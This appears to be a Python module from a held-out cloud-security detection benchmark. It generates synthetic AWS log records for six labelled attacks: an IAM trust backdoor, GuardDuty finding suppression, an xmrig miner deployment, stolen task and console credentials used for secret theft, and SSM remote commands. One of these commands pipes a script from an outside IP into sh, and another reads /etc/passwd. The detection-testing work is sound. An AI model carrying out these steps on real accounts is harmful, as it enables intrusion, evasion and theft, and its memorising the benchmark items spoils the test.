"""The attacks A5-A10 and the list of all ten; split from ``_attacks`` to keep modules short."""

from __future__ import annotations

import datetime as dt

from benchmarks.heldout14._attacks import (
    BOTO_VPS,
    UBUNTU_CLI,
    Step,
    current,
    function_url,
    leaked_bitbucket,
    sms_pumping,
    spree,
    ssec_ransom,
)
from benchmarks.heldout14._benign import row
from benchmarks.heldout14._context import Ctx
from benchmarks.heldout14._org import FIREFOX_WIN, PEOPLE, TERRAFORM
from benchmarks.heldout14._people import sign_in
from benchmarks.heldout14._pipelines import gitlab_login, into
from benchmarks.heldout14._plan import ACCOUNTS, OUTSIDE_ACCOUNT, at, hexid, key, principal_id
from benchmarks.heldout14._records import Cred

PROD, PIX, DATA, SEC, STAGING = (
    ACCOUNTS[n] for n in ("prod", "pix", "data", "security", "staging")
)


def trust_backdoor(ctx: Ctx) -> list[dict[str, str]]:
    """A5: a merged change in the infra project (a poisoned pipeline) makes the partner role
    trust an outside account (Stratus' iam-backdoor-role); the outside account then assumes it
    and reads the sellers' KYC documents."""
    rng = ctx.plan.sub("a5")
    day = ctx.scored[3]
    when = at(day, 20.0)
    ip = ctx.plan.ip("gitlab-runners", rng)
    infra, _ids = gitlab_login(ctx, rng, "infra", when, ip)
    target, _eid = into(
        ctx,
        rng,
        infra,
        PROD,
        "terraform-exec",
        f"terraform-{hexid(rng, 8)}",
        when + dt.timedelta(seconds=12),
        ip,
        TERRAFORM.format(api="sts"),
    )
    policy = {
        "roleName": "partner-seller-onboarding",
        "policyDocument": f'{{"Statement":[{{"Effect":"Allow","Principal":{{"AWS":["arn:aws:iam::284417306512:root","arn:aws:iam::{OUTSIDE_ACCOUNT}:root"]}},"Action":"sts:AssumeRole"}}]}}',
    }
    changed, _ = spree(
        ctx,
        rng,
        target,
        when + dt.timedelta(seconds=20),
        ip,
        TERRAFORM.format(api="iam"),
        [
            ("iam", "GetRole", {"roleName": "partner-seller-onboarding"}),
            ("iam", "UpdateAssumeRolePolicy", policy),
        ],
    )
    outsider = Cred(OUTSIDE_ACCOUNT, "ops", key(rng), principal_id(rng), "cli")
    away, later = ctx.plan.ip("m247", ctx.plan.sub("a5-ip")), when + dt.timedelta(minutes=40)
    agent = "aws-cli/2.13.25 Python/3.11.5 Windows/10 exe/AMD64 prompt/off command/sts.assume-role"
    session, assumed = ctx.trail.mint(
        PROD, "partner-seller-onboarding", "cli", later, by=outsider, ip=away, agent=agent
    )
    steps: list[Step] = [("sts", "GetCallerIdentity", None), ("s3", "ListBuckets", None)] + [
        (
            "s3",
            "GetObject",
            {"bucketName": f"jabuti-seller-docs-{PROD[-4:]}", "key": f"kyc/{hexid(rng, 10)}.pdf"},
        )
        for _ in range(rng.randint(30, 50))
    ]
    used, end = spree(
        ctx,
        rng,
        session,
        later,
        away,
        "aws-cli/2.13.25 Python/3.11.5 Windows/10 exe/AMD64 prompt/off",
        steps,
        gap=(1, 8),
    )
    return [
        row(
            "A5",
            "partner role made to trust an outside account, then assumed from it",
            "attack",
            when,
            end + dt.timedelta(minutes=1),
            events=[*changed, assumed, *used],
            severity="medium",
        ),
        row(
            "A5",
            "",
            "attack",
            later,
            end + dt.timedelta(minutes=1),
            key=session.access_key,
            ips=[away],
            severity="medium",
        ),
    ]


def guardduty_filter(ctx: Ctx) -> list[dict[str, str]]:
    """A6: during the Black Friday rush, a security analyst's session key, stolen, creates a
    GuardDuty filter that archives every finding (Stratus' guardduty-disable... filter variant)."""
    rng = ctx.plan.sub("a6")
    analyst = next(p for p in PEOPLE if p.role == "SecurityAnalyst")
    day = ctx.scored[1]
    home = ctx.plan.ip(analyst.home, ctx.plan.sub("a6-home"))
    cred, _ = sign_in(
        ctx,
        rng,
        analyst.email,
        analyst.role,
        analyst.account,
        at(day, 4.6),
        home,
        "aws-sdk-go/1.55.5 (go1.22.5; darwin; arm64)",
        console=False,
    )
    ip, when = ctx.notes["threat_ip"], at(day, 5.0)
    detector = {"detectorId": hexid(rng, 32)}
    steps: list[Step] = [
        ("sts", "GetCallerIdentity", None),
        ("guardduty", "ListDetectors", None),
        ("guardduty", "ListFilters", dict(detector)),
        (
            "guardduty",
            "CreateFilter",
            {
                **detector,
                "name": "default-noise",
                "action": "ARCHIVE",
                "rank": 1,
                "findingCriteria": {"criterion": {"severity": {"gte": 0}}},
            },
        ),
        ("guardduty", "ListFindings", dict(detector)),
        ("guardduty", "ArchiveFindings", dict(detector)),
    ]
    ids, end = spree(ctx, rng, cred, when, ip, BOTO_VPS, steps)
    return [
        row(
            "A6",
            "GuardDuty filter archiving every finding, from a threat-list address",
            "attack",
            when,
            end + dt.timedelta(minutes=1),
            key=cred.access_key,
            ips=[ip],
            events=ids,
            severity="high",
        )
    ]


def miner(ctx: Ctx) -> list[dict[str, str]]:
    """A7: an agency developer's CLI session key, stolen, re-registers a task definition with a
    miner image and scales the service, and tries a cluster in another region (Sysdig)."""
    rng = ctx.plan.sub("a7")
    day = ctx.scored[-1]
    office = ctx.plan.ip("agency-ba", ctx.plan.sub("a7-office"))
    email = "martin.gonzalez@ext.jabuti.com.br"
    cred, _ = sign_in(
        ctx,
        rng,
        email,
        "AgencyDeveloper",
        STAGING,
        at(day, 12.5),
        office,
        "aws-sdk-go/1.55.5 (go1.22.5; linux; amd64)",
        console=False,
    )
    ip, when = ctx.plan.ip("vultr", ctx.plan.sub("a7-ip")), at(day, 13.0)
    image = {
        "family": "catalog-api",
        "containerDefinitions": [{"image": "docker.io/xmrig/xmrig:6.21.0", "cpu": 4096}],
    }
    steps: list[Step] = [
        ("sts", "GetCallerIdentity", None),
        ("ecs", "ListClusters", None),
        ("ecs", "ListServices", {"cluster": "jabuti"}),
        ("ecs", "DescribeTaskDefinition", {"taskDefinition": "catalog-api"}),
        ("ecs", "RegisterTaskDefinition", image),
        (
            "ecs",
            "UpdateService",
            {
                "cluster": "jabuti",
                "service": "catalog-api",
                "desiredCount": 20,
                "taskDefinition": "catalog-api:97",
            },
        ),
        ("ecs", "CreateCluster", {"_region": "us-east-2", "clusterName": "default"}),
        ("ecs", "RegisterTaskDefinition", {**image, "_region": "us-east-2"}),
        ("ecs", "CreateService", {"_region": "us-east-2", "desiredCount": 20}),
    ]
    ids, end = spree(ctx, rng, cred, when, ip, BOTO_VPS, steps)
    return [
        row(
            "A7",
            "ECS task definition re-registered with a miner image",
            "attack",
            when,
            end + dt.timedelta(minutes=1),
            key=cred.access_key,
            ips=[ip],
            events=ids,
            severity="high",
        )
    ]


def task_key_outside(ctx: Ctx) -> list[dict[str, str]]:
    """A8 (cold start): on the pix account's first day, the pix gateway's task key (read
    through an SSRF to the task metadata endpoint) used from a Brazilian mobile network."""
    rng = ctx.plan.sub("a8")
    when = at(ctx.first_scored, 15.3)
    issued = current(ctx, PIX, "ecs-pix-gateway-task", when)
    ip = ctx.plan.ip("claro-mobile", rng)
    steps: list[Step] = [
        ("sts", "GetCallerIdentity", None),
        ("s3", "ListBuckets", None),
        ("secretsmanager", "ListSecrets", None),
        ("secretsmanager", "GetSecretValue", {"secretId": "prod/pix/psp-certificate"}),
        ("kms", "ListKeys", None),
        ("s3", "ListObjects", {"bucketName": f"jabuti-pix-receipts-{PIX[-4:]}"}),
    ]
    ids, end = spree(ctx, rng, issued.cred, when, ip, UBUNTU_CLI, steps)
    return [
        row(
            "A8",
            "pix task's role key used outside AWS on the account's first day",
            "attack",
            when,
            end + dt.timedelta(minutes=1),
            key=issued.cred.access_key,
            ips=[ip],
            events=ids,
            severity="medium",
        )
    ]


def hijacked_console(ctx: Ctx) -> list[dict[str, str]]:
    """A9: a developer's Google-federated console session, its cookie stolen, continues from
    Mexico in Firefox on Windows and reads Secrets Manager in bulk."""
    rng = ctx.plan.sub("a9")
    dev = next(p for p in PEOPLE if p.email.startswith("camila"))
    day = ctx.scored[0]
    home = ctx.plan.ip(dev.home, ctx.plan.sub("a9-home"))
    cred, _ = sign_in(
        ctx, rng, dev.email, dev.role, dev.account, at(day, 9.1), home, dev.browser, console=True
    )
    spree(
        ctx,
        rng,
        cred,
        at(day, 9.15),
        home,
        dev.browser,
        [
            ("ecs", "DescribeServices", None),
            ("logs", "FilterLogEvents", None),
            ("cloudwatch", "GetMetricData", None),
        ],
        gap=(20, 200),
    )
    ip, when = ctx.plan.ip("uninet", rng), at(day, 11.5)
    steps: list[Step] = [("secretsmanager", "ListSecrets", None)] * 3 + [
        (
            "secretsmanager",
            "GetSecretValue",
            {
                "secretId": f"prod/{rng.choice(['checkout', 'payments', 'catalog', 'seller'])}/{hexid(rng, 6)}"
            },
        )
        for _ in range(rng.randint(30, 50))
    ]
    ids, end = spree(ctx, rng, cred, when, ip, FIREFOX_WIN, steps, gap=(1, 10))
    return [
        row(
            "A9",
            "hijacked Google-SAML console session reading secrets from Mexico",
            "attack",
            when,
            end + dt.timedelta(minutes=1),
            key=cred.access_key,
            ips=[ip],
            events=ids,
            severity="medium",
        )
    ]


def ssm_commands(ctx: Ctx) -> list[dict[str, str]]:
    """A10: a data analyst's console session (his own network and browser) runs shell commands
    on every ETL instance through SSM: a role that never used SSM (Mandiant, Expel)."""
    rng = ctx.plan.sub("a10")
    analyst = next(p for p in PEOPLE if p.role == "DataAnalyst" and p.email.startswith("gustavo"))
    day = ctx.scored[-1]
    home = ctx.plan.ip(analyst.home, ctx.plan.sub("a10-home"))
    cred, _ = sign_in(
        ctx,
        rng,
        analyst.email,
        analyst.role,
        analyst.account,
        at(day, 15.0),
        home,
        analyst.browser,
        console=True,
    )
    instances = ctx.notes["etl"]
    steps: list[Step] = [("ssm", "DescribeInstanceInformation", None)]
    for script in ("id; hostname", "cat /etc/passwd", "curl -s http://45.76.12.9/i.sh | sh"):
        steps.append(
            (
                "ssm",
                "SendCommand",
                {
                    "documentName": "AWS-RunShellScript",
                    "instanceIds": list(instances),
                    "parameters": {"commands": [script]},
                },
            )
        )
        steps += [("ssm", "GetCommandInvocation", {"instanceId": i}) for i in instances]
    ids, end = spree(ctx, rng, cred, at(day, 15.2), home, analyst.browser, steps, gap=(5, 40))
    return [
        row(
            "A10",
            "SSM SendCommand on every ETL instance by a data analyst's session",
            "attack",
            at(day, 15.2),
            end + dt.timedelta(minutes=1),
            key=cred.access_key,
            events=ids,
            severity="medium",
        )
    ]


ATTACKS = (
    leaked_bitbucket,
    ssec_ransom,
    sms_pumping,
    function_url,
    trust_backdoor,
    guardduty_filter,
    miner,
    task_key_outside,
    hijacked_console,
    ssm_commands,
)
